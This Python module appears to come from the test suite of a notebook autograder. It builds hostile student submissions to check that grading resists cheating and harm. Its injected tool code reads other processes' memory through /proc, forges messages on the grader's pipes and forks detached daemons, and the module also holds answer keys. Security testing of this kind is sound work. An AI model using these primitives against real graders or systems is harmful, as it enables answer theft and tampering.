"""What an attack is made of: a released notebook changed, and a way to tell that it came through.

A cell that cheats ends in the right answer if, and only if, the cheat works: so the points tell. A
cell that harms leaves the word `CANARY` where it should have left nothing. On a grader that stops
none of it everything here is harmless all the same: it reads, writes and removes nothing but
classrooms made to be attacked (they hold the file `MARKER`) and files of its own named after the
canary, and it sends signals to others only where it can reach no process of the machine.
"""

from __future__ import annotations

import copy
import os
import re
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

from loop.conftest import RIGHT as TOY
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

_RUN = int(os.environ.get("RCTLAB_ATTACKED", os.getpid()))
CANARY = f"canary-{_RUN:08x}"
"""What traces are named after, another word in each run; a process's name holds no more letters."""

MARKER = "throwaway-classroom.txt"
"""A file of every folder that may be attacked; it holds the number of the process that made it."""

PORT = 20_000 + _RUN % 12_000  # where the harness listens
KEY = 0x7F000000 + _RUN % 2**20  # of shared memory
SECRET = "RCTLAB_ATTACKED_ANSWER"  # a variable of the grader that holds an answer
WHY = {"why": TOY["why"], "explain-risk": "It says how many times as likely, and counts nobody."}

Change = Callable[[NotebookNode], NotebookNode | None]


@dataclass(frozen=True)
class Session:
    """A session that is attacked: right answers, and the points that a machine gives."""

    name: str
    right: Mapping[str, str]
    points: Mapping[str, float]

    @property
    def full(self) -> float:
        return sum(self.points.values())


_RATIO_OF = """\
def risk_ratio_of(a, b, c, d):
    if b == 0 or d == 0 or (a == 0 and c == 0):
        return float("nan")
    return float("inf") if c == 0 else a * d / (b * c)"""
SESSIONS = {
    one.name: one
    for one in (
        Session("toy", TOY, {"double": 2, "triple": 3}),
        # made in room.py: arrays, series and functions of lists, tested as people write tests
        Session(
            "squares",
            {
                "values": "values = np.array(numbers) ** 2",
                "table": 'table = 2 * pd.Series(numbers, name="n")',
                "largest": "def largest(items):\n    return max(items)",
                "mean": "mean = sum(numbers) / len(numbers)",
            },
            {"values": 2, "table": 2, "largest": 3, "mean": 3},
        ),
        Session(
            "s4-risk",
            {
                "risk-coach": "risk_coach = 229 / 635",
                "risk-difference-coach": "difference_coach = 100 * (229 / 635 - 151 / 621)",
                "risk-ratio-coach": "rr_coach = (229 / 635) / (151 / 621)",
                "interval-coach-online": "lower_end = -2.4",
                "odds-ratio-online": "or_online = (0.266 / 0.734) / (0.208 / 0.792)",
                "nnt-online": "nnt_online = 18",
                "risk-ratio-of": _RATIO_OF,
                "claims-risk": 'supported_claims = ["B", "D", "F", "I"]',
                "explain-risk": WHY["explain-risk"],
            },
            {
                "risk-coach": 1,
                "risk-difference-coach": 1,
                "risk-ratio-coach": 2,
                "interval-coach-online": 2,
                "odds-ratio-online": 2,
                "nnt-online": 2,
                "risk-ratio-of": 3,
                "claims-risk": 4,
            },
        ),
    )
}


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One submission that means ill, or that breaks what it goes through.

    Attributes
    ----------
    name, group : str
        The name is the learner's id, too.
    does : str
        What it does, one sentence for the table of the docs.
    change : callable
        What is done to the released notebook; the other answers in it are right.
    earns : float
        The points that its honest cells deserve: what must be scored, no more and no less.
    look : str
        Words of the notes, if one is due.
    on_disk : callable
        What is done to the submitted folder, in which the notebook lies by then.
    session : str
        Which of `SESSIONS` it hands in.
    accomplice : callable
        What is done to a second notebook, all right, of a learner who is marked before.
    """

    name: str
    group: str
    does: str
    change: Change
    earns: float
    look: str = ""
    on_disk: Callable[[Path], None] | None = None
    session: str = "toy"
    accomplice: Change | None = None


# --- changes of a notebook ---------------------------------------------------------------------


def answer(grade_id: str, code: str) -> Change:
    """Write into an answer cell."""

    def change(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.source = code

    return change


def own_cell(code: str, place: int | None = None) -> Change:
    """Put in a cell of the learner's own, by default at the end."""

    def change(notebook: NotebookNode) -> None:
        where = len(notebook.cells) if place is None else place
        notebook.cells.insert(where, new_code_cell(code))

    return change


def own_text(text: str) -> Change:
    """Put in a text cell of the learner's own."""
    return lambda notebook: notebook.cells.append(new_markdown_cell(text))


def steps(session: str, *changes: Change) -> Change:
    """Answer everything rightly, then change."""

    def change(notebook: NotebookNode) -> NotebookNode:
        for grade_id, code in SESSIONS[session].right.items():
            answer(grade_id, code)(notebook)
        for one in changes:
            notebook = one(notebook) or notebook
        return notebook

    return change


def cell(notebook: NotebookNode, cell_id: str) -> NotebookNode:
    """The cell with this id."""
    return next(one for one in notebook.cells if one.id == cell_id)


def marks(cell_id: str, **values: object) -> Change:
    """Change nbgrader's marks of a cell."""
    return lambda notebook: cell(notebook, cell_id).metadata["nbgrader"].update(values)


def source(cell_id: str, text: str) -> Change:
    """Change the text of a cell."""
    return lambda notebook: cell(notebook, cell_id).update(source=text)


def tagged(*tags: str, ids: Iterable[str] = ("test-double", "test-triple")) -> Change:
    """Tag cells."""

    def change(notebook: NotebookNode) -> None:
        for cell_id in ids:
            cell(notebook, cell_id).metadata["tags"] = list(tags)

    return change


def delete(*ids: str) -> Change:
    """Leave cells out."""

    def change(notebook: NotebookNode) -> None:
        notebook.cells = [one for one in notebook.cells if one.id not in ids]

    return change


def twin(cell_id: str, place: int, **values: object) -> Change:
    """Copy a cell to a place, with other contents."""

    def change(notebook: NotebookNode) -> None:
        again = copy.deepcopy(cell(notebook, cell_id))
        again.update({"id": f"{cell_id}-again", **values})
        notebook.cells.insert(place, again)

    return change


# --- tables of attacks that are one cell of code -----------------------------------------------

TOOLS = '''
import ctypes, glob, os, re, signal, socket, sqlite3, stat, subprocess, sys, time
from pathlib import Path

ME = f"{CANARY}.{NAME}"


def attempt(step, *given, **options):
    """What a step gives; None where it is stopped."""
    try:
        return step(*given, **options)
    except Exception:
        return None


def seen(path):
    """What can be read of a file."""
    return attempt(lambda: Path(path).read_text(errors="replace")) or ""


def leave(folder):
    """Leave a file named after the canary."""
    return attempt((Path(folder) / ME).write_text, CANARY)


def taken(*texts):
    """The answer that a text gives away."""
    ways = (r"double == (\\d+)", r"double = (\\d+)")
    found = [re.search(way, text) for way in ways for text in texts if text]
    return next((int(one[1]) for one in found if one), None)


def letters(*texts):
    """The letters that a text gives away."""
    found = [re.search(r'supported_claims = (\\["B".*?\\])', text) for text in texts if text]
    return next((re.findall("[A-I]", one[1]) for one in found if one), [])


def boxed():
    """Whether no process of the machine itself can be reached from here."""

    def gone(pid):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        except OSError:
            pass
        return False

    here = attempt(os.readlink, "/proc/self/ns/pid")
    return here != HOST and seen("/proc/1/cmdline") != INIT and all(map(gone, HARNESS))


def cwd_of(pid):
    return attempt(os.readlink, f"/proc/{pid}/cwd") or "/"


def rooms():
    """The classroom of this harness, from wherever it can be seen."""
    places = [os.getcwd(), *(cwd_of(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*/cwd"))]
    above = [up for place in places for up in (Path(place), *Path(place).parents)]
    for root in ("", "/proc/1/root", f"/proc/{os.getppid()}/root"):
        for pattern in ("/tmp" "/*/project", "/tmp" "/*/*/*/project"):
            above += map(Path, glob.glob(root + pattern))
    return [place for place in dict.fromkeys(above) if seen(place / MARKER) == str(HARNESS[0])]


def home(mine=False):
    """The home folders; mine: those in which a file that exists already may be changed."""
    import pwd

    asked = (Path.home, lambda: Path(pwd.getpwuid(os.getuid()).pw_dir))
    found = [place for place in map(attempt, asked) if place]
    made = [one for one in found if seen(one / MARKER) == str(HARNESS[0])]
    return list(dict.fromkeys(made if mine else found))


def ancestors():
    """The processes above this one, and their command lines."""
    pid, found = os.getppid(), {}
    while pid > 0 and pid not in found:
        found[pid] = seen(f"/proc/{pid}/cmdline")
        above = re.search(r"PPid:\\s+(\\d+)", seen(f"/proc/{pid}/status"))
        pid = int(above[1]) if above else 0
    return found


def targets(words="attacks"):
    """Processes of others: all that can be seen from a box; else only graders made to be attacked."""
    if boxed():
        pids = {int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*/stat")}
        return sorted((pids | {os.getppid(), 1}) - {0, os.getpid()})
    return [pid for pid, line in ancestors().items() if words in line]


def memory(pid, most=200_000_000):
    """What a process holds in memory, piece by piece."""
    for line in seen(f"/proc/{pid}/maps").splitlines():
        span, rights, *_, last = line.split()
        if not rights.startswith("rw") or last.startswith("/") or most < 0:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        end = min(end, start + 50_000_000)
        most -= end - start
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as held:
            held.seek(start)
            yield (attempt(held.read, end - start) or b"").decode("latin-1")


def pipes(write):
    """The pipes of this process that it was given, for writing or for reading."""
    import fcntl

    def fits(number):
        if not stat.S_ISFIFO(os.fstat(number).st_mode):
            return False
        return fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == (1 if write else 0)

    return [number for number in range(3, 128) if attempt(fits, number)]


def notebook_run():
    """What runs this notebook, where the grader's own code does that in this process."""
    import gc

    return next((one for one in gc.get_objects() if type(one).__name__ == "Run"), None)


def outward():
    """The pipe to the grader, and the others that it gave to this process."""
    run, found = notebook_run(), pipes(write=True)
    out = run.out if hasattr(run, "out") else found[-1] if found else None
    return out, [number for number in found if number != out]


def message(said):
    """A message as the grader's own processes write it."""
    import json

    body = json.dumps(said).encode()
    return f"{len(body):>12}".encode() + body


def named():
    """Carry the canary as the name of this process."""
    ctypes.CDLL(None).prctl(15, CANARY.encode(), 0, 0, 0)


def daemon(work, seconds=40):
    """Do something in a process that nobody waits for; it ends by itself."""
    if os.fork():
        return
    try:
        os.setsid()
        if not os.fork():
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.alarm(seconds)
            named()
            os.closerange(0, 1024)
            work()
    finally:
        os._exit(0)
'''
_NAMES = "|".join(["ME", "CANARY", *re.findall(r"^def (\w+)", TOOLS, re.MULTILINE)])
_TOOL = re.compile(rf"\b({_NAMES})\b")


def seen_by_harness() -> str:
    """Lines that tell an attack by which signs it knows the machine that it must not harm."""
    try:
        host = os.readlink("/proc/self/ns/pid")
        init = Path("/proc/1/cmdline").read_text(errors="replace")
    except OSError:
        host = init = ""
    known = {
        "CANARY": CANARY,
        "MARKER": MARKER,
        "PORT": PORT,
        "HOST": host,
        "INIT": init,
        "HARNESS": [os.getpid(), os.getppid()],
    }
    return "\n".join(f"{name} = {value!r}" for name, value in known.items())


def code(name: str, text: str) -> str:
    """Return the code of a cell, with the tools before it if it uses any."""
    text = dedent(text).strip("\n")
    if not _TOOL.search(text):
        return text
    return f"{seen_by_harness()}\nNAME = {name!r}\n{TOOLS}\n\n{text}"


Row = tuple[str, ...]
"""What it does; which answer it is after ("": none, all are right); the code; words of a note."""


def in_cells(group: str, session: str, rows: Mapping[str, Row]) -> list[Attack]:
    """Make attacks from a table: the answer cell of a task holds the code, or a cell at the end.

    A task as "double+1.5" says what its cell deserves by itself.
    """
    found = []
    for name, (does, task, text, *look) in rows.items():
        task, _, some = task.partition("+")
        whole, worth = SESSIONS[session], SESSIONS[session].points.get(task, 0.0)
        put = _late(name, text, task)
        found.append(
            Attack(
                name=name,
                group=group,
                does=does,
                change=steps(session, put),
                earns=whole.full - worth + float(some or 0),
                look=look[0] if look else "",
                session=session,
            )
        )
    return found


def _late(name: str, text: str, task: str) -> Change:
    """Put code into a notebook when it is handed in: by then it is known from which process."""

    def change(notebook: NotebookNode) -> None:
        (answer(task, code(name, text)) if task else own_cell(code(name, text)))(notebook)

    return change
